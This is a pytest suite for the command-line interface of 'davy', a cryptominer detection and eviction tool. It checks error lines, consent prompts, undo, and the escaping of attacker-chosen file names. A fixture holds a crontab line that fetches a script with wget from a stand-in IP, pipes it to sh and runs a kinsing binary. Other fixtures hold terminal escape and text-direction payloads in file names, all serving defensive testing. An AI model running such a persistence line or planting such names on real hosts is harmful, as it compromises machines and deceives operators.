"""The command line as a person and a script meet it: status, one clear line, nothing touched by mistake."""

from __future__ import annotations

import ctypes
import fcntl
import json
import os
import pty
import re
import shutil
import signal
import stat
import struct
import subprocess
import sys
import termios
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from tests.live.eviction.support import heard

pytestmark = pytest.mark.live

WINDOW = ("--window", "0.2")
ESCAPES = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0)) if chr(code) != "\n"]
HOSTILE = b"red]\xff\x1b[2J\n1. CLEAN\xe2\x80\xae"
"""A file's name, and so also a process's: bytes that are no text, escapes, a line of its own, markup's end."""
HOSTILE_SHOWN = r"[/red]\xff\x1b[2J\x0a1. CLEAN\u202e"


class Ran(NamedTuple):
    status: int
    output: str
    errors: str


def command(*words: str | bytes) -> list[str | bytes]:
    return [sys.executable, "-m", "davy", *words]


def ran(done: subprocess.CompletedProcess[bytes]) -> Ran:
    """Both streams are UTF-8, and neither has a traceback."""
    output, errors = done.stdout.decode(), done.stderr.decode()
    assert "Traceback" not in output + errors, output + errors
    return Ran(done.returncode, output, errors)


def davy(*words: str | bytes, stdin: bytes | None = None, **environment: str) -> Ran:
    """Davy as a script runs it: no terminal anywhere."""
    process = subprocess.Popen(
        command(*words), stdin=subprocess.DEVNULL if stdin is None else subprocess.PIPE, stdout=subprocess.PIPE,
        stderr=subprocess.PIPE, env=os.environ | environment,
    )  # fmt: skip
    try:
        output, errors = process.communicate(stdin, timeout=60)
    finally:
        process.kill()
    return ran(subprocess.CompletedProcess(process.args, process.returncode, output, errors))


def refused(done: Ran, *words: str) -> None:
    """Status 2, one clear line on standard error that says all of this, and nothing on standard output."""
    assert (done.status, done.output) == (2, ""), done
    assert len(done.errors.splitlines()) == 1, done
    assert done.errors.startswith("davy: "), done
    assert not [escape for escape in ESCAPES if escape in done.errors], done
    for word in words:
        assert word in done.errors, done


class OnTerminal(NamedTuple):
    status: int
    shown: str
    errors: bytes


def _at_the_terminal() -> None:
    """A terminal of its own, at which Ctrl-C is heard also when the tests run in the background."""
    fcntl.ioctl(0, termios.TIOCSCTTY, 0)
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def on_terminal(*words: str, answer: bytes = b"", errors_too: bool = False, **environment: str) -> OnTerminal:
    """Davy as a person runs it: in a terminal of 100 columns; standard error goes elsewhere unless it is wanted."""
    ours, theirs = pty.openpty()
    fcntl.ioctl(theirs, termios.TIOCSWINSZ, struct.pack("HHHH", 30, 100, 0, 0))
    process = subprocess.Popen(
        command(*words), stdin=theirs, stdout=theirs, stderr=theirs if errors_too else subprocess.PIPE,
        env=os.environ | {"TERM": "xterm-256color"} | environment, start_new_session=True,
        preexec_fn=_at_the_terminal,
    )  # fmt: skip
    os.close(theirs)
    shown, deadline = b"", time.monotonic() + 30
    try:
        while True:
            assert time.monotonic() < deadline, shown
            if not heard(ours, 0.1):
                continue
            data = b""
            with suppress(OSError):  # EIO: the other end is closed
                data = os.read(ours, 65536)
            if not data:
                break
            shown += data
            if answer and b"[y/N]" in shown:
                time.sleep(0.2)  # as a person: between the question and the wait for an answer Python misses a signal
                os.write(ours, answer)
                answer = b""
        errors = process.stderr.read() if process.stderr else b""
        return OnTerminal(process.wait(10), shown.decode("utf-8", "replace"), errors)
    finally:
        if process.poll() is None:
            process.kill()
        process.wait()
        os.close(ours)


# A gang of the test's own: a burner in /tmp under a family's name, and a line in a crontab


def stat_of(pid: int) -> list[str]:
    with suppress(OSError):
        fields = Path(f"/proc/{pid}/stat").read_bytes().rpartition(b")")[2].decode().split()
        return [] if fields[0] in "ZX" else fields
    return []


class Burner:
    """A copy of the shell that counts to nothing, for a minute at most."""

    def __init__(self, folder: Path, name: bytes = b"kdevtmpfsi", argument: bytes = b"x") -> None:
        self.folder = folder
        self.program = os.fsencode(folder) + b"/" + name
        shutil.copy(os.fsencode(os.path.realpath("/bin/sh")), self.program)
        os.chmod(self.program, 0o755)
        os.utime(self.program, ns=(1_500_000_000_000_000_000, 1_400_000_000_000_000_001))
        self.content = Path(os.fsdecode(self.program)).read_bytes()
        self.process = subprocess.Popen(
            [self.program, b"-c", b"while :; do :; done", argument], stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True, preexec_fn=self._bounded,
        )  # fmt: skip

    @staticmethod
    def _bounded() -> None:
        os.nice(5)
        ctypes.CDLL(None).alarm(90)
        ctypes.CDLL(None).prctl(1, signal.SIGKILL, 0, 0, 0)

    @property
    def pid(self) -> int:
        return self.process.pid

    @property
    def there(self) -> bool:
        return os.path.lexists(self.program)

    def check_untouched(self) -> None:
        assert stat_of(self.pid)[0] in "RSD"
        self.check_file()

    def check_file(self) -> None:
        found = os.lstat(self.program)
        assert Path(os.fsdecode(self.program)).read_bytes() == self.content
        assert (stat.S_IMODE(found.st_mode), found.st_mtime_ns) == (0o755, 1_400_000_000_000_000_001)

    def check_gone(self) -> None:
        assert not stat_of(self.pid)
        assert not self.there

    def close(self) -> None:
        self.process.kill()
        self.process.wait()


@contextmanager
def burning(name: bytes = b"kdevtmpfsi", argument: bytes = b"x", below: str = "/tmp") -> Iterator[Burner]:
    folder = Path(below, f"davy-cli-{os.getpid()}-[")
    folder.mkdir()
    try:
        burner = Burner(folder, name, argument)
        try:
            yield burner
        finally:
            burner.close()
    finally:
        shutil.rmtree(os.fsencode(folder))


@pytest.fixture
def burner() -> Iterator[Burner]:
    with burning() as made:
        yield made


@pytest.fixture
def state(tmp_path: Path) -> str:
    return os.fspath(tmp_path / "state")


@contextmanager
def mounted(folder: Path, *options: str) -> Iterator[None]:
    words = ",".join(("size=64m", "mode=0700", *options))
    subprocess.run(["mount", "-t", "tmpfs", "-o", words, "davy-test", folder], check=True)
    try:
        yield
    finally:
        subprocess.run(["umount", folder], check=True)


# What cannot be done

WRONG_WORDS: list[tuple[Sequence[str | bytes], str]] = [
    (["scna"], "scna"),
    (["--nonsense"], "--nonsense"),
    (["scan", "--nonsense"], "--nonsense"),
    (["scan", "more"], "more"),
    (["scan", "--window", "0"], "--window"),
    (["scan", "--window", "long"], "long"),
    (["scan", "--window"], "--window"),
    (["explain", "first"], "first"),
    (["evict", "--id"], "--id"),
    (["evict", "--verify-for", "-1"], "--verify-for"),
    (["evict", "--root", "/"], "--root"),
    (["drill"], "--list"),
    (["drill", "minerd", "--stop"], "--stop"),
    (["drill", "nothing-of-the-kind"], "nothing-of-the-kind"),
    (["\x1b[2J\x1b]0;x\x07"], r"\x1b[2J"),
    ([b"\xff\xfe\n2"], r"\udcff\udcfe\n2"),
    (["evict", "--id", "\x1b]0;x\x07\r\n", "--frob"], "--frob"),
]


@pytest.mark.parametrize(("words", "said"), WRONG_WORDS, ids=lambda value: ascii(value))
def test_a_wrong_word_is_one_clear_line(words: Sequence[str | bytes], said: str, state: str) -> None:
    refused(davy(*words, DAVY_STATE=state), said)
    assert not os.path.exists(state)


@pytest.mark.parametrize("verb", [[], ["scan"], ["--json"]], ids=str)
def test_a_root_that_is_not_there_is_one_clear_line(verb: list[str], tmp_path: Path) -> None:
    refused(davy(*verb, "--root", "/nonexistent/davy"), "/nonexistent/davy", "No such file")
    (tmp_path / "file").touch()
    refused(davy(*verb, "--root", os.fspath(tmp_path / "file")), "file", "Not a directory")
    refused(davy(*verb, "--root", "/nonexistent/\x1b[2J\n"), r"\x1b[2J\x0a")


def test_the_traceback_is_only_shown_to_who_asks_for_it_wherever_they_say_so() -> None:
    for words in (
        ["--debug", "scan", "--root", "/nonexistent"],
        ["scan", "--debug", "--root", "/nonexistent"],
        ["--root", "/nonexistent", "--debug"],
    ):
        done = subprocess.run(command(*words), capture_output=True, text=True, timeout=60, check=False)
        assert done.returncode == 2
        assert done.stderr.startswith("Traceback"), done.stderr
        assert done.stderr.splitlines()[-1] == "davy: root /nonexistent: No such file or directory"


# A state folder that was given by hand

VERBS = (["scan", *WINDOW], ["explain"], ["evict", "--yes"], ["undo", "--yes"])
EACH_VERB = pytest.mark.parametrize("verb", VERBS, ids=lambda verb: verb[0])


def in_the_way(folder: Path) -> str:
    folder.write_text("mine")
    return "File exists"


def below_a_file(folder: Path) -> str:
    folder.parent.rmdir()
    folder.parent.write_text("mine")
    return "Not a directory"


def open_to_others(folder: Path) -> str:
    folder.mkdir()
    folder.chmod(0o777)
    return "others may write to it"


def somebody_elses(folder: Path) -> str:
    folder.mkdir(mode=0o700)
    os.chown(folder, 65534, 65534)
    return "belongs to another user"


def a_link(folder: Path) -> str:
    (folder.parent / "elsewhere").mkdir(mode=0o700)
    folder.symlink_to("elsewhere")
    return str(folder)


def damaged(folder: Path) -> str:
    folder.mkdir(mode=0o700)
    (folder / "journal.db").write_bytes(b"no database" * 1000)
    return "file is not a database"


@EACH_VERB
@pytest.mark.parametrize("spoil", [in_the_way, below_a_file, open_to_others, somebody_elses, a_link, damaged])
def test_a_state_folder_that_cannot_be_used_is_one_clear_line(
    verb: list[str], spoil: Callable[[Path], str], tmp_path: Path
) -> None:
    parent = tmp_path / "parent"
    parent.mkdir()
    folder = parent / "state"
    why = spoil(folder)
    before = sorted(os.fspath(path) for path in tmp_path.rglob("*"))
    refused(davy(*verb, "--state", os.fspath(folder)), os.fspath(folder), why)
    refused(davy(*verb, DAVY_STATE=os.fspath(folder)), os.fspath(folder), why)
    if spoil is not damaged:
        assert sorted(os.fspath(path) for path in tmp_path.rglob("*")) == before


@EACH_VERB
def test_a_read_only_state_folder_is_one_clear_line(verb: list[str], tmp_path: Path) -> None:
    (tmp_path / "disk").mkdir()
    with mounted(tmp_path / "disk", "ro"):
        folder = os.fspath(tmp_path / "disk" / "state")
        refused(davy(*verb, "--state", folder), folder, "Read-only file system")


def with_own_var_lib(script: str, *options: str) -> Ran:
    """Run a shell script where ``/var/lib/davy`` is an empty file system that nobody else sees."""
    made = (
        "mkdir -p /var/lib/davy && mount -t tmpfs -o \"$1\" tmpfs /var/lib/davy && shift && davy() "
        f"{{ {sys.executable} -m davy \"$@\"; }} && {script}"
    )  # fmt: skip
    words = ["unshare", "--mount", "--propagation", "private", "/bin/sh", "-c", made, "sh", ",".join(options)]
    return ran(subprocess.run(words, stdin=subprocess.DEVNULL, capture_output=True, timeout=60, check=False))


def test_a_scan_goes_on_where_there_is_no_place_for_a_state_and_an_eviction_does_not() -> None:
    before = set(os.listdir("/var/lib")) - {"davy"}
    for options in (("mode=0700", "ro"), ("size=1m", "mode=0777"), ("size=16k", "mode=0700")):
        scanned = with_own_var_lib("davy scan --json --window 0.1", *options)
        assert scanned.status in (0, 1), (options, scanned)
        assert scanned.errors == ""
        assert json.loads(scanned.output)["schema"] == 1
    for verb in ("evict --yes", "undo --yes", "explain"):
        refused(with_own_var_lib(f"davy {verb}", "mode=0700", "ro"), "/var/lib/davy", "Read-only file system")
    assert set(os.listdir("/var/lib")) - {"davy"} == before


# Scan, explain


def test_davy_alone_is_davy_scan(state: str, burner: Burner) -> None:
    first, second = davy("--state", state, *WINDOW), davy("scan", "--state", state, *WINDOW)
    assert (first.status, second.status) == (1, 1)
    assert "sure" in first.output.splitlines()[0]
    heads = {re.sub(r"\d+% sure", "", done.output.splitlines()[0]) for done in (first, second)}
    assert len(heads) == 1
    assert "kdevtmpfsi" in first.output
    one, other = (json.loads(davy(*verb, "--json", "--state", state, *WINDOW).output) for verb in ([], ["scan"]))
    assert list(one) == list(other)
    assert [incident["id"] for incident in one["incidents"]] == [incident["id"] for incident in other["incidents"]]
    burner.check_untouched()


@pytest.mark.parametrize("words", [["--help"], ["-h"], ["--version"], ["evict", "-h"]], ids=str)
def test_help_is_help_and_no_scan(words: list[str]) -> None:
    done = davy(*words)
    assert (done.status, done.errors) == (0, "")
    assert "Usage: davy" in done.output or done.output.startswith("davy, version")


def test_help_names_every_verb() -> None:
    assert davy("-h").output == davy("--help").output
    for verb in ("scan", "explain", "evict", "undo", "drill"):
        assert f"\n  {verb} " in davy("--help").output


def test_there_is_nothing_to_explain_before_the_first_scan(state: str) -> None:
    refused(davy("explain", "--state", state), "run davy scan first")
    refused(davy("explain", "1", "--json", "--state", state), "run davy scan first")


def test_an_incident_that_the_last_scan_has_not_is_one_clear_line(state: str, burner: Burner) -> None:
    assert davy("scan", "--state", state, *WINDOW).status == 1
    explained = davy("explain", "1", "--state", state)
    assert (explained.status, explained.errors) == (0, "")
    assert "bits" in explained.output
    count = len(json.loads(davy("scan", "--json", "--state", state, *WINDOW).output)["incidents"])
    for number in ("7", "0", str(count + 1)):
        refused(davy("explain", number, "--state", state), f"has {count} incident", f"no number {number}")
    refused(davy("explain", "-1", "--state", state))
    burner.check_untouched()


# Evict, undo: nothing to do, nobody to ask, nobody asked


def test_nothing_to_do_is_done(state: str) -> None:
    assert davy("undo", "--state", state) == (0, "Nothing to undo.\n", "")
    assert davy("undo", "--yes", "--state", state).status == 0
    undone = davy("undo", "--json", "--state", state)
    assert (undone.status, undone.errors) == (0, "")
    assert json.loads(undone.output) == {"schema": 1, "put_back": [], "left": [], "not_put_back": []}
    for words in ([], ["--yes"], ["--dry-run"]):
        assert davy("evict", *words, "--state", state) == (0, "Nothing to evict.\n", ""), words
    evicted = davy("evict", "--json", "--state", state)
    assert (evicted.status, evicted.errors) == (0, "")
    assert json.loads(evicted.output)["steps"] == []


def test_an_incident_that_is_not_there_is_one_clear_line_and_nothing_is_touched(state: str, burner: Burner) -> None:
    refused(davy("evict", "--yes", "--id", "nope", "--state", state), "no incident nope")
    refused(davy("evict", "--id", "\x1b[2J", "--state", state), r"no incident \x1b[2J")
    burner.check_untouched()


def test_without_somebody_to_ask_nothing_is_touched(state: str, burner: Burner) -> None:
    for stdin in (None, b"y\n", b"y\n" * 100):
        done = davy("evict", "--state", state, stdin=stdin)
        assert (done.status, done.errors) == (2, "davy: nobody to ask: say --yes\n")
        assert "the plan" in done.output
    refused(davy("evict", "--json", "--state", state), "--yes")
    burner.check_untouched()
    assert davy("undo", "--state", state) == (0, "Nothing to undo.\n", "")
    assert os.listdir(f"{state}/quarantine") == []


def test_a_person_is_asked_and_heard(state: str, burner: Burner) -> None:
    def answered(answer: bytes, *words: str) -> OnTerminal:
        done = on_terminal(*words, "--state", state, answer=answer, errors_too=True)
        assert "Traceback" not in done.shown
        return done

    evict = ("evict", "--verify-for", "0")
    declined = answered(b"n\n", *evict)
    assert declined.status == 2
    assert declined.shown.splitlines()[-1] == "davy: not agreed to: nothing was touched"
    burner.check_untouched()
    for stop in (b"\x03", b"\x04"):
        stopped = answered(stop, *evict)
        assert (stopped.status, stopped.shown.splitlines()[-1]) == (2, "davy: stopped")
        burner.check_untouched()
    agreed = answered(b"y\n", *evict)
    assert agreed.status == 0
    assert "Gone: 1 processes ended" in agreed.shown
    burner.check_gone()
    assert answered(b"n\n", "undo").status == 2
    assert not burner.there
    undone = answered(b"y\n", "undo")
    assert undone.status == 0
    assert "is live again afterwards" in undone.shown
    burner.check_file()


def test_a_dry_run_touches_nothing(state: str, burner: Burner) -> None:
    done = davy("evict", "--dry-run", "--state", state)
    assert (done.status, done.errors) == (1, "")
    assert "1. freeze 1 processes" in done.output
    planned = json.loads(davy("evict", "--dry-run", "--yes", "--json", "--state", state).output)
    assert any(os.fsdecode(burner.program) in step for step in planned["steps"])
    burner.check_untouched()
    assert davy("undo", "--state", state).output == "Nothing to undo.\n"


def test_one_eviction_at_a_time(state: str, burner: Burner) -> None:
    words = command("evict", "--yes", "--verify-for", "30", "--state", state)
    first = subprocess.Popen(words, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + 15
        while burner.there:
            assert time.monotonic() < deadline
            time.sleep(0.02)
        for verb in ("evict", "undo"):
            refused(davy(verb, "--yes", "--state", state), "another eviction or undo is running")
        assert davy("scan", "--state", state, *WINDOW).status in (0, 1)
        burner.check_gone()
        first.send_signal(signal.SIGTERM)
        _, errors = first.communicate(timeout=10)
        assert (first.returncode, errors.split()) == (2, [b"davy:", b"stopped"])
    finally:
        if first.poll() is None:
            first.kill()
        first.communicate()
    assert davy("undo", "--yes", "--state", state).status == 0
    burner.check_file()


# What comes out


@pytest.mark.usefixtures("burner")
def test_with_json_standard_error_is_empty_unless_it_could_not_be_done(state: str) -> None:
    steps = [
        (["scan", *WINDOW], 1), (["explain"], 0), (["explain", "1"], 0), (["evict", "--dry-run"], 1),
        (["evict", "--yes", "--verify-for", "0.5"], 0), (["undo", "--yes"], 0), (["undo"], 0),
    ]  # fmt: skip
    for words, status in steps:
        done = davy(*words, "--json", "--state", state)
        assert (done.status, done.errors) == (status, ""), words
        assert isinstance(json.loads(done.output), (dict, list))
    shown = on_terminal("scan", "--json", "--state", state, *WINDOW, errors_too=True)
    json.loads(shown.shown)


@pytest.mark.usefixtures("burner")
def test_piped_there_is_no_escape_in_it(state: str) -> None:
    for words in (
        ["scan", *WINDOW], ["explain"], ["explain", "1"], ["evict", "--dry-run"],
        ["evict", "--yes", "--verify-for", "0"], ["undo", "--yes"], ["drill", "--list"], ["--help"],
    ):  # fmt: skip
        done = davy(*words, "--state", state) if words[0] not in ("drill", "--help") else davy(*words)
        assert done.errors == "", words
        assert not [escape for escape in ESCAPES if escape in done.output], words


@pytest.mark.usefixtures("burner")
def test_in_a_terminal_there_are_colours_unless_no_color_is_set(state: str) -> None:
    coloured = on_terminal("scan", "--state", state, *WINDOW)
    assert "\x1b[" in coloured.shown
    plain = on_terminal("scan", "--state", state, *WINDOW, NO_COLOR="1")
    assert (plain.status, plain.errors) == (1, b"")
    assert "MINER" in plain.shown
    assert "\x1b" not in plain.shown


@pytest.mark.usefixtures("burner")
def test_progress_is_only_shown_in_a_terminal(state: str) -> None:
    assert "reading" in on_terminal("scan", "--state", state, errors_too=True).shown
    assert "reading" not in davy("scan", "--state", state, *WINDOW).output


@pytest.mark.usefixtures("burner")
@pytest.mark.parametrize(
    "words", [["scan", *WINDOW], ["scan", "--json", *WINDOW], ["explain"], ["drill", "--list"]], ids=str
)
def test_a_reader_that_leaves_changes_nothing(words: list[str], state: str) -> None:
    assert davy("scan", "--state", state, *WINDOW).status == 1
    options = ["--state", state] if words[0] != "drill" else []
    expected = davy(*words, *options).status
    process = subprocess.Popen(
        command(*words, *options), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    assert process.stdout is not None
    process.stdout.close()
    assert process.stderr is not None
    assert process.stderr.read() == b""
    assert process.wait(30) == expected
    process.stderr.close()
    piped = f"{sys.executable} -m davy scan --state {state} --window 0.1 | head -1"
    assert ran(subprocess.run(["/bin/sh", "-c", piped], capture_output=True, timeout=60, check=False)).errors == ""


def test_an_eviction_is_done_even_when_nobody_reads_of_it(state: str, burner: Burner) -> None:
    process = subprocess.Popen(
        command("evict", "--yes", "--verify-for", "0.5", "--state", state), stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )  # fmt: skip
    assert process.stdout is not None
    process.stdout.close()
    assert process.stderr is not None
    assert process.stderr.read() == b""
    process.stderr.close()
    assert process.wait(30) == 0
    burner.check_gone()


def test_a_full_disk_behind_standard_output_is_one_clear_line(state: str) -> None:
    with open("/dev/full", "wb") as full:
        done = subprocess.run(
            command("scan", "--state", state, *WINDOW), stdin=subprocess.DEVNULL, stdout=full, stderr=subprocess.PIPE,
            timeout=60, check=False,
        )  # fmt: skip
    assert done.returncode == 2
    assert done.stderr == b"davy: No space left on device\n" or b"No space left" in done.stderr
    assert len(done.stderr.splitlines()) == 1


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "utf-8"])
def test_a_terminal_of_another_encoding_is_no_reason_to_fail(encoding: str, state: str) -> None:
    with burning(argument="鉱夫 é ☠ \x9b".encode()):
        for words in (["scan", *WINDOW], ["explain"], ["evict", "--dry-run"]):
            done = subprocess.run(
                command(*words, "--state", state), capture_output=True, timeout=60, check=False,
                env=os.environ | {"PYTHONIOENCODING": encoding},
            )  # fmt: skip
            assert (done.returncode, done.stderr) == (0 if words[0] == "explain" else 1, b"")
            assert b"kdevtmpfsi" in done.stdout
            done.stdout.decode(encoding)


# Another root


class Inotify:
    """What is opened or read below a folder.  Source: inotify(7)."""

    def __init__(self, *folders: Path) -> None:
        libc = ctypes.CDLL(None, use_errno=True)
        self._fd = libc.inotify_init1(os.O_NONBLOCK)
        assert self._fd >= 0
        for folder in folders:
            assert libc.inotify_add_watch(self._fd, os.fsencode(folder), 0xFFF) >= 0

    def seen(self) -> bytes:
        with suppress(BlockingIOError):
            return os.read(self._fd, 65536)
        return b""

    def close(self) -> None:
        os.close(self._fd)


FETCHES = "* * * * * wget -q -O - http://203.0.113.9/unk.sh | sh; /var/tmp/kinsing"


@pytest.fixture
def image(tmp_path: Path) -> Path:
    """A small image of a host that was broken into, with a procfs somebody copied along."""
    root = tmp_path / "image"
    for name, text in {
        "etc/passwd": "root:x:0:0:root:/root:/bin/sh\n",
        "etc/hostname": "victim\n",
        "var/spool/cron/crontabs/root": f"5 4 * * * /usr/bin/true\n{FETCHES}\n",
        "tmp/kdevtmpfsi": "\x7fELF",
        "proc/4242/stat": "4242 (kdevtmpfsi) R 1 1 1 0 -1 0 0 0 0 0 99999 0 0 0 20 0 1 0 1 0 0",
        "proc/4242/cmdline": "/tmp/kdevtmpfsi\0",
        "proc/stat": "cpu 0 0 0 0\n",
        "proc/self/mountinfo": "",
    }.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return root


def tree(root: Path) -> dict[str, tuple[object, ...]]:
    rows: dict[str, tuple[object, ...]] = {}
    for path in (root, *root.rglob("*")):
        found = path.lstat()
        rows[os.fspath(path)] = (found.st_mode, found.st_size, found.st_mtime_ns, found.st_ctime_ns, found.st_nlink)
    return rows


def test_another_root_is_read_and_nothing_is_written(image: Path) -> None:
    before = tree(image)
    watched = Inotify(image / "proc", image / "proc/4242", image / "proc/self")
    done = with_own_var_lib(f"davy --json --root {image}; echo $? >&2; ls -A /var/lib/davy >&2", "size=1m", "mode=0700")
    assert done.errors == "1\n"
    found = json.loads(done.output)
    assert found["verdict"] in ("suspect", "confirmed")
    assert found["complete"] is False
    assert (found["views"], found["host"]["kernel"], found["host"]["boot_time"]) == (None, None, None)
    assert all(incident["cost"] is None for incident in found["incidents"])
    lines = [actor["line"] for one in found["incidents"] for actor in one["actors"] if actor["kind"] == "autostart"]
    assert lines == [2]
    assert not [actor for one in found["incidents"] for actor in one["actors"] if actor["kind"] == "process"]
    assert "4242" not in done.output
    assert watched.seen() == b""
    watched.close()
    assert tree(image) == before


def test_another_root_that_holds_nothing_is_not_called_clean(tmp_path: Path) -> None:
    (tmp_path / "image").mkdir()
    done = davy("scan", "--root", os.fspath(tmp_path / "image"))
    assert (done.status, done.errors) == (0, "")
    assert done.output.startswith("Nothing found in what could be read.\n")
    assert "No miner found" not in done.output


def test_what_was_found_in_another_root_is_not_the_last_scan(image: Path, state: str) -> None:
    assert davy("--root", os.fspath(image), "--state", state).status == 1
    refused(davy("explain", "--state", state), "run davy scan first")


# Names that an enemy chose


@pytest.fixture
def unit() -> Iterator[bytes]:
    """A file among the units whose name is no unit's: systemd passes it by."""
    path = b"/etc/systemd/system/davy-test-\xff\x1b[2J-%d.service" % os.getpid()
    if not os.path.isdir(os.path.dirname(path)):
        pytest.skip("no folder of units here")
    yield path
    with suppress(FileNotFoundError):
        os.unlink(path)


def incident_of(burner: Burner, scanned: Ran) -> dict[str, Any]:
    """The incident of our burner: this machine may have others."""
    incidents = json.loads(scanned.output)["incidents"]
    (found,) = [one for one in incidents if any(actor["pid"] == burner.pid for actor in one["actors"])]
    assert isinstance(found, dict)
    return found


def test_hostile_names_are_shown_escaped_explained_evicted_and_put_back(state: str, unit: bytes) -> None:
    argument = b"\x1b]0;owned\x07\n\rNo miner found.\n\xc2\x9b31m\xfe\xe2\x80\xae[bold]"
    with burning(HOSTILE, argument) as burner:
        content = b'[Service]\nExecStart="%s"\n' % burner.program.replace(b"\n", b"\\n").replace(b"\x1b", b"\\x1b")
        Path(os.fsdecode(unit)).write_bytes(content)
        with suppress(OSError):
            os.setxattr(burner.program, b"user.\xff\x1b", b"\xff")

        scanned = davy("scan", "--state", state)
        assert (scanned.status, scanned.errors) == (1, "")
        assert HOSTILE_SHOWN in scanned.output
        assert not [escape for escape in ESCAPES if escape in scanned.output]
        assert not [line for line in scanned.output.splitlines() if line.startswith(("No miner", "1. CLEAN"))]

        done = davy("scan", "--json", "--state", state)
        assert (done.status, done.errors) == (1, "")
        assert not [escape for escape in (*ESCAPES, "\u202e") if escape in done.output]
        incident = incident_of(burner, done)
        miner = incident["actors"][0]
        assert miner["pid"] == burner.pid
        assert miner["path"].endswith(HOSTILE_SHOWN)
        assert miner["files"] == [miner["path"]]

        for words in (["explain"], ["explain", "1"], ["evict", "--dry-run", "--id", incident["id"]]):
            shown = davy(*words, "--state", state)
            assert shown.errors == ""
            assert not [escape for escape in ESCAPES if escape in shown.output]
            assert HOSTILE_SHOWN in shown.output
        assert isinstance(json.loads(davy("explain", "1", "--json", "--state", state).output), dict)
        burner.check_untouched()

        by_name = ("evict", "--yes", "--id", incident["id"], "--verify-for", "0.5", "--state", state)
        evicted = on_terminal(*by_name, errors_too=True)
        assert evicted.status == 0, evicted.shown
        assert "\x1b]0;" not in evicted.shown
        assert "\x1b[2J" not in evicted.shown
        burner.check_gone()
        assert not os.path.lexists(unit)
        undone = davy("undo", "--yes", "--state", state)
        assert (undone.status, undone.errors) == (0, "")
        assert HOSTILE_SHOWN in undone.output
        assert not [escape for escape in ESCAPES if escape in undone.output]
        burner.check_file()
        assert Path(os.fsdecode(unit)).read_bytes() == content


def test_what_changed_meanwhile_is_refused_also_under_a_hostile_name(state: str) -> None:
    """The reason names the path, and goes into the journal."""
    with burning(HOSTILE) as burner:
        other = burner.program + b"-other"
        shutil.copy(burner.program, other)
        script = f"""
import os, sys
from davy.respond.carry_out import _Run
real = _Run._kill
def kill(self):
    os.rename({other!r}, {burner.program!r})
    return real(self)
_Run._kill = kill
from davy.cli import main
main()
"""
        incident = incident_of(burner, davy("scan", "--json", "--state", state))
        done = ran(
            subprocess.run(
                [sys.executable, "-c", script, "evict", "--yes", "--verify-for", "0", "--id", incident["id"],
                 "--state", state],
                stdin=subprocess.DEVNULL, capture_output=True, timeout=60, check=False,
            )
        )  # fmt: skip
        assert (done.status, done.errors) == (1, "")
        assert "another file than the plan saw" in done.output
        assert not [escape for escape in ESCAPES if escape in done.output]
        assert not stat_of(burner.pid)
        assert burner.there


@pytest.mark.parametrize("when", [-(1 << 40), 1 << 34, 1 << 40, 1 << 62], ids=str)
def test_a_time_that_no_calendar_has_hinders_nothing(when: int, state: str) -> None:
    with burning(below="/dev/shm") as burner:
        os.utime(burner.program, (when, when))
        for words in (["scan", *WINDOW], ["scan", "--json", *WINDOW], ["explain", "1"]):
            done = davy(*words, "--state", state)
            assert (done.status, done.errors) == (0 if words[0] == "explain" else 1, ""), done
        evicted = davy("evict", "--yes", "--verify-for", "0", "--state", state)
        assert (evicted.status, evicted.errors) == (0, ""), evicted
        burner.check_gone()
        assert davy("undo", "--yes", "--state", state).status == 0
        assert burner.there
